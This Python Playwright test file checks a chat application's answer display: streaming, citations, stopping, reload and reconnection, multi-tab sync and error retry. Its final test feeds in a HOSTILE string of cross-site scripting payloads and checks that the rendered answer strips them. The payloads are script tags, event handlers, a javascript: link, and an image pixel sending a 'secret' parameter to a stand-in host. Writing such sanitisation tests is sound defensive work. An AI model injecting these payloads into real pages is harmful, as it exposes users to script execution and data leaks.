"""A question and its answer, whatever happens in the middle of it (AG-19, AG-20, EV-02, UI-01)."""

import re
import threading

from playwright.sync_api import Browser, expect

from infra.local.client import Client
from infra.local.stack import LocalStack
from tests.browser.visitor import Visitor, is_answered, text_of, visiting
from tests.scripted_server import Fault, Hold
from tests.stack import Script
from tests.unit.documents.samples import make_pdf
from werkbank.domain.messages import ToolCall

LIST = ToolCall(id="list", name="listFiles", arguments="{}")
HOSTILE = """\
<script>window.harmed = 1</script><img src=x onerror="window.harmed = 2"><b onclick="window.harmed = 3">bold</b>

[click](javascript:window.harmed=4) ![pixel](https://stranger.invalid/pixel.png?secret=1) <iframe src="https://stranger.invalid/"></iframe>
<style>body { display: none }</style> <form action="https://stranger.invalid/"><button>Send</button></form>

[a page](https://stranger.invalid/page) and the **end**."""


def stored_text(client: Client, visitor: Visitor, question: str) -> str:
    """Return the answer to a question as the server keeps it."""
    run_id = visitor.page.locator(".turn", has_text=question).get_attribute("data-run")
    workflow_id = visitor.page.url.rpartition("/")[2]
    messages = client.call("GET", f"/workflows/{workflow_id}")["messages"]
    return str([m for m in messages if m["runId"] == run_id and m["role"] == "assistant"][-1]["content"])


def test_answer_streams_after_its_tool_step_and_ends_with_figures(visitor: Visitor, script: Script) -> None:
    # AG-19, EV-01
    gate = threading.Event()
    question = script.add([LIST], ["You have ", Hold(gate), "**three** files."])
    answer = visitor.ask(question)
    expect(answer.get_by_test_id("answer-text")).to_have_text("You have")
    expect(answer).to_have_attribute("data-state", "streaming")
    step = answer.get_by_test_id("tool-step")
    expect(step).to_have_attribute("data-tool", "listFiles")
    expect(step).to_have_attribute("data-status", "done")
    expect(visitor.stop).to_be_visible()
    gate.set()
    is_answered(answer)
    assert text_of(answer) == "You have three files."
    expect(answer.locator("strong")).to_have_text("three")
    summary = answer.get_by_test_id("summary")
    for figure in ("2 rounds", "1 tool", "CHF", "scripted"):
        expect(summary).to_contain_text(figure)
    # Two rounds of 100 and 20, and what embedding the question took.
    expect(summary).to_contain_text(re.compile(r"2\d\d in · 40 out tokens"))
    expect(answer.get_by_test_id("offline-badge")).to_have_count(0)
    step.locator("summary").click()
    expect(step.get_by_text("Result", exact=True)).to_be_visible()


def test_citation_opens_the_cited_page_with_its_passage(visitor: Visitor, script: Script) -> None:
    # KS-05
    passage = "The emperor penguin breeds in the Antarctic winter."
    texts = ("Of whales and seals, an introduction.", passage, "Of krill and other small matters.")
    pdf = make_pdf([[(72, 72, text, 12)] for text in texts])
    with visitor.page.expect_file_chooser() as chooser:
        visitor.page.get_by_role("button", name="Attach files").click()
    chooser.value.set_files({"name": "antarctic.pdf", "mimeType": "application/pdf", "buffer": pdf})
    expect(visitor.file_row("antarctic.pdf")).to_have_attribute("data-status", "indexed")
    answer = visitor.ask(script.add(["In winter [1]."], about="When does the emperor penguin breed in the Antarctic?"))
    is_answered(answer)
    mark = answer.get_by_test_id("answer-text").get_by_role("button", name="Source 1: antarctic.pdf, page 2")
    mark.click()
    expect(visitor.preview).to_have_attribute("data-page", "2")
    expect(visitor.preview).to_contain_text("Page 2 of 3")
    expect(visitor.preview.locator(".is-cited")).to_have_text(passage)
    visitor.preview.get_by_role("button", name="Next page").click()
    expect(visitor.preview).to_contain_text("Of krill")
    visitor.page.keyboard.press("Escape")
    expect(visitor.preview).to_have_count(0)
    expect(mark).to_be_focused()


def test_stop_keeps_the_text_and_the_next_question_works(visitor: Visitor, script: Script) -> None:
    # AG-20
    gate = threading.Event()
    answer = visitor.ask(script.add(["The beginning", Hold(gate), " never seen"]))
    expect(answer.get_by_test_id("answer-text")).to_have_text("The beginning")
    visitor.stop.click()
    is_answered(answer)  # while the model is still held
    gate.set()
    assert text_of(answer) == "The beginning"
    expect(answer).to_contain_text("Stopped. What was written so far is kept.")
    following = visitor.ask(script.add(["Here I am."]))
    is_answered(following)
    assert text_of(following) == "Here I am."


def test_reload_in_mid_answer_comes_back_and_goes_on(visitor: Visitor, script: Script, client: Client) -> None:
    # EV-02
    gate = threading.Event()
    question = script.add(["Zwölf Boxkämpfer ", Hold(gate), *(f"jagen {n} 🦆 " for n in range(200)), "Ende."])
    answer = visitor.ask(question)
    expect(answer.get_by_test_id("answer-text")).to_have_text("Zwölf Boxkämpfer")
    visitor.page.reload()
    expect(answer.get_by_test_id("answer-text")).to_have_text("Zwölf Boxkämpfer")
    expect(answer).to_have_attribute("data-state", "streaming")
    gate.set()
    is_answered(answer)
    assert text_of(answer) == stored_text(client, visitor, question)
    visitor.page.reload()
    is_answered(answer)
    assert text_of(answer) == stored_text(client, visitor, question)


def test_cut_connection_in_mid_answer_is_taken_up_again(
    visitor: Visitor, script: Script, stack: LocalStack, client: Client
) -> None:
    # EV-02, EV-03
    gate = threading.Event()
    question = script.add(["Before ", Hold(gate), *(f"and {n} " for n in range(200)), "after."])
    answer = visitor.ask(question)
    expect(answer.get_by_test_id("answer-text")).to_have_text("Before")
    with visitor.page.expect_websocket():
        stack.drop_sockets()
        gate.set()
    is_answered(answer)
    assert text_of(answer) == stored_text(client, visitor, question)
    expect(visitor.page.locator(".reconnecting")).to_have_count(0)


def test_question_without_a_connection_comes_back_to_its_box(
    visitor: Visitor, script: Script, stack: LocalStack
) -> None:
    visitor.excuse("ERR_INTERNET_DISCONNECTED")
    question = script.add(["Now it works."])
    visitor.page.clock.install()
    visitor.page.reload()
    is_answered(visitor.ask(script.add(["Connected."])))
    visitor.context.set_offline(True)
    stack.drop_sockets()
    expect(visitor.page.locator(".reconnecting")).to_be_visible()
    answer = visitor.ask(question)
    expect(visitor.send).to_be_disabled()
    visitor.page.clock.fast_forward("00:10")  # longer than the page waits for a connection
    toast = visitor.page.get_by_test_id("problem-toast").filter(has_text="Your question was not sent")
    expect(toast).to_be_visible()
    expect(visitor.prompt).to_have_value(question)
    expect(answer).to_have_count(0)
    visitor.context.set_offline(False)
    expect(visitor.page.locator(".reconnecting")).to_have_count(0)
    visitor.send.click()
    is_answered(answer)
    assert len(script.requests[question]) == 1


def test_answer_shows_in_every_tab_of_its_user(
    visitor: Visitor, browser: Browser, stack: LocalStack, script: Script
) -> None:
    # EV-01
    gate = threading.Event()
    question = script.add(["Here ", Hold(gate), "and there."])
    expect(visitor.ask(question).get_by_test_id("answer-text")).to_have_text("Here")
    with visiting(browser, stack) as elsewhere:
        elsewhere.sign_in()
        elsewhere.conversation_row(question).get_by_role("link").click()
        expect(elsewhere.answer_to(question).get_by_test_id("answer-text")).to_have_text("Here")
        gate.set()
        for tab in (visitor, elsewhere):
            is_answered(tab.answer_to(question))
            assert text_of(tab.answer_to(question)) == "Here and there."


def test_failed_answer_says_why_and_can_be_asked_again(visitor: Visitor, script: Script) -> None:
    question = script.add([Fault(401, "invalid_api_key")], ["This time it works."])
    failed = visitor.ask(question)
    expect(failed.get_by_role("alert")).to_contain_text("The model provider refused the call")
    failed.get_by_role("button", name="Ask again").click()
    expect(visitor.answer_to(question)).to_have_count(2)
    is_answered(visitor.answer_to(question).last)
    assert text_of(visitor.answer_to(question).last) == "This time it works."


def test_hostile_answer_is_harmless(visitor: Visitor, script: Script) -> None:
    # UI-01: what a model writes may come from a file that somebody else wrote
    answer = visitor.ask(script.add([HOSTILE]))
    is_answered(answer)
    expect(answer.locator("strong").filter(has_text="end")).to_be_visible()
    for element in ("script", "img", "iframe", "style", "form", "[onclick]", "[onerror]"):
        expect(answer.get_by_test_id("answer-text").locator(element)).to_have_count(0)
    link = answer.get_by_role("link", name="a page")
    expect(link).to_have_attribute("rel", "noopener noreferrer")
    expect(link).to_have_attribute("target", "_blank")
    answer.get_by_text("click", exact=True).click()
    assert visitor.page.evaluate("window.harmed") is None
    hrefs = answer.locator("a").evaluate_all("links => links.map((link) => link.getAttribute('href'))")
    assert [href for href in hrefs if href and href.startswith("javascript:")] == []
